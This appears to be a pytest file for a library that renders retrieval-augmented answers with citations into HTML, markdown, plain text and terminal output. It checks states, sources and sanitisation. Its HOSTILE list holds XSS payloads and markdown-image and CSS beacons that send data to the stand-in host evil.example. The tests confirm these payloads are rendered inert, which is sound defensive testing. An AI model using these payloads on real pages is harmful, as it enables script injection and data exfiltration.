"""What people see: safe, complete, and the same words everywhere."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from ragnb.answer import Answer
from ragnb.citations import MarkerReader
from ragnb.display import terminal
from ragnb.display.markup import to_html
from ragnb.display.static import mimebundle
from ragnb.events import (
    Cancelled,
    Cited,
    Failed,
    Finished,
    Quote,
    Retrieved,
    Retrying,
    Routed,
    Started,
    Token,
    Used,
)
from tests.conftest import hits

PASSAGES = hits("Refunds take <b>five</b> days. Ask.", "Dogs & cats are welcome.", "Other.")


def log(*events, k=3):
    answer = Answer(clock=iter(n * 0.01 for n in range(10**6)).__next__)
    for event in (Started(answer_id="a", question="Why <i>?", k=k), *events):
        answer.append(event)
    return answer


def written(text, *end, citing=True):
    found = MarkerReader(PASSAGES)
    events = [Retrieved(hits=PASSAGES), Routed(model="openai:gpt-4o-mini", reason="you asked for it")]
    events.append(Token(text=text))
    events += found.feed(text) + found.close() if citing else []
    return log(*events, *end)


USED = Used(model="openai:gpt-4o-mini", input_tokens=1200, output_tokens=30, cost=0.00123)
DONE = (USED, Finished(reason="stop"))


def test_finished():
    """Text, chips, marked quotes, sources, model, times and cost are there in all three forms."""
    bundle = mimebundle(written("**Five** days [1].\n\n- dogs [2]", *DONE))
    assert set(bundle) == {"text/html", "text/markdown", "text/plain"}
    page = lxml_html.fromstring(bundle["text/html"])
    assert page.xpath("//strong/text()") == ["Five"]
    assert page.xpath("//sup[@class='ragnb-chip']/text()") == ["[1]", "[2]"]
    assert page.xpath("//mark/text()") == ["Refunds take <b>five</b> days.", "Dogs & cats are welcome."]
    assert "Why <i>?" in page.text_content()
    for part in ("1,200 tokens in, 30 out", "$0.0012", "first token", "openai:gpt-4o-mini", "doc0.md"):
        assert part in page.text_content()
    assert "1 more passage given to the model" in page.text_content()
    assert "> Refunds take <b>five</b> days." in bundle["text/markdown"]
    assert "[2] Document 1 — Part, lines 1–3" in bundle["text/plain"]


def test_native_citations_get_numbers():
    """Citations without a marker have their number set behind what they support."""
    quote = Quote(2, PASSAGES[1].chunk.id, 0, 4, "Dogs")
    answer = written("Dogs may come. Yes.", Cited(start=0, end=13, quotes=(quote,)), *DONE, citing=False)
    bundle = mimebundle(answer)
    assert "Dogs may come[2]. Yes." in bundle["text/plain"]
    assert lxml_html.fromstring(bundle["text/html"]).xpath("//sup/text()") == ["[2]"]


@pytest.mark.parametrize(
    ("events", "said"),
    [
        ((), "Searching …"),
        ((Retrieved(hits=PASSAGES),), "3 passages found in"),
        ((Retrieved(hits=PASSAGES), Routed(model="m", reason="r")), "waiting for m …"),
        ((Token(text="a"),), "Writing …"),
        (
            (Retrying(fault="overloaded", message="It is busy.", attempt=1, wait=2.0),),
            "Trying again in 2.00 s",
        ),
        ((Token(text="a"), Cancelled()), "Cancelled after 1 token; the text so far is kept."),
        ((Failed(error="E", message="It broke.", advice="Mend it."),), "It broke. Mend it."),
        ((Token(text="a"), Failed(error="E", message="It broke.")), "The text so far is kept."),
        ((Token(text="a"), Finished(reason="length", advice="Raise max_tokens.")), "Raise max_tokens."),
    ],
)
def test_every_state_is_told_in_words(events, said):
    """Each phase and each trouble is a sentence, in every form."""
    for form in mimebundle(log(*events)).values():
        assert said in form


def test_sources_are_open_to_see_while_one_waits():
    """Before the first token the sources are shown one by one."""
    page = lxml_html.fromstring(mimebundle(log(Retrieved(hits=PASSAGES)))["text/html"])
    assert len(page.xpath("//details[@class='ragnb-source']")) == 3
    assert "more passage" not in page.text_content()


def test_an_unknown_price_is_unknown():
    """A price that is not known is never shown as nothing."""
    used = Used(model="openai:x", input_tokens=1, output_tokens=1)
    assert "price unknown" in mimebundle(written("a", used, Finished(reason="stop")))["text/plain"]


def test_no_events_at_all():
    """An empty log is shown as what it is."""
    assert "Starting" in mimebundle(Answer())["text/html"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input></form>",
    "<base href=//evil.example>",
    "<object data=//evil.example>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n| --- |\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script>alert(1)&#x3C;/script>",
    "\ue0000\ue001 forged \ue00099\ue001",
    '<sup class="ragnb-chip">[9]</sup>',
    "<!-- --><script>alert(1)</script>",
    "<p style='background:url(//evil.example)'>x",
    "[x](//evil.example)",
    "[x](https://user:pass@evil.example)",
    "\x00<scr\x00ipt>",
]
ALLOWED = set(
    [
        "div",
        "p",
        "br",
        "hr",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "s",
        "del",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        "span",
        "sup",
        "details",
        "summary",
        "mark",
        "b",
    ]
)


def check_safe(html):
    page = lxml_html.fromstring(f"<div>{html}</div>")
    for element in page.iter():
        assert element.tag in ALLOWED, element.tag
        for name, value in element.attrib.items():
            assert name in {"href", "class", "style", "title", "target", "rel", "dir", "start"}, name
            assert "url(" not in value or name == "title"
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:")), value
    return page


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_are_inert(text):
    """Whatever the model says becomes text: no script, no image, no link but to a shown host."""
    page = check_safe(to_html(text, []))
    assert not page.xpath("//sup")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_documents_are_inert(text):
    """Whatever a document, its title or a question holds is shown as text."""
    passages = hits(text)
    answer = log(
        Retrieved(hits=passages),
        Routed(model="m", reason=text),
        Token(text="x [1]"),
        Cited(start=0, end=1, quotes=(Quote(1, "c", 0, len(text), text),), marker=(2, 5)),
        Failed(error="E", message=text, advice=text),
    )
    check_safe(mimebundle(answer)["text/html"])


def test_names_with_underscores_stay():
    """Names such as __init__ are not taken for emphasis; asterisks are."""
    assert to_html("Call __init__ **now**, _x_.", []) == "<p>Call __init__ <strong>now</strong>, _x_.</p>\n"


def test_links_show_their_host():
    """A link says where it leads."""
    assert "docs</a> (evil.example)" in to_html("[docs](https://evil.example/x)", [])


def test_uncited_markers_are_text():
    """A number that was not cited is no chip, also where a definition would make it a link."""
    html = to_html("See [7].\n\n[7]: https://evil.example", [])
    assert "<sup" not in html


def test_a_marker_in_code_stays_code():
    """A citation's place within code does not break the code."""
    quote = Quote(1, "c", 0, 1, "R")
    html = to_html("`a[1]`", [Cited(start=0, end=1, quotes=(quote,), marker=(2, 5))])
    assert "<sup" not in html


@given(st.text(st.characters(categories=["L", "N", "Zs"]), min_size=1))
def test_plain_words_are_all_there(text):
    """Nothing of an answer of plain words is lost."""
    shown = lxml_html.fromstring(f"<div>{to_html(text, [])}</div>").text_content()
    assert "".join(text.split()) == "".join(shown.split())


@given(st.text())
def test_any_text_is_shown_safely(text):
    """No text breaks the rendering or gets anything past it."""
    if "\x00" not in to_html(text, []):
        check_safe(to_html(text, []))


def test_an_answer_of_a_megabyte():
    """A very long answer is shown whole."""
    text = "word " * 200_000
    assert len(mimebundle(written(text, *DONE, citing=False))["text/html"]) > 1_000_000


def test_terminal():
    """The terminal shows sources before words, and no control character of a model's."""
    answer = written("Five\x1b[31m days\x07 [1].\u202e", *DONE)
    out = io.StringIO()
    terminal.show(answer, out)
    shown = out.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert shown.index("[3] Document 2") < shown.index("Five[31m days [1].")
    assert "“Refunds take <b>five</b> days.”" in shown
